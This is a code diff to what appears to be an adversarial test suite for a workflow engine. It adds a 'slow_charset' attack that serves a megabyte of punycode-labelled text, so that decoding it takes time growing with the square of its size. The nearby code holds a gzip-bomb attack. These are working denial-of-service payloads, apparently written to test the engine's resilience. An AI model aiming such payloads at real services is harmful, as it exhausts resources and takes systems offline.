@@ -56,6 +56,15 @@ async def gzip_bomb(attacker: Attacker, runs: int = 4, megabytes: int = 300) -> 
         return await attacker.ended(await attacker.execute_many(workflow, runs))
 
 
+async def slow_charset(attacker: Attacker, runs: int = 4) -> str:
+    """A megabyte of text in a charset whose decoding takes a time that grows with its square."""
+    head = "content-type: text/plain; charset=punycode"
+    async with host(head, b"a-" + b"b9" * 500_000) as url:
+        workflow = await attacker.publish(TRIGGER, node("call", "http_request", {"url": url}, timeout_seconds=8))
+        attacker.begin()
+        return await attacker.ended(await attacker.execute_many(workflow, runs))
+
+
 def _packed_twice(megabytes: int) -> bytes:
     inner, outer = zlib.compressobj(wbits=31), zlib.compressobj(wbits=31)
     zeros = bytes(2**20)
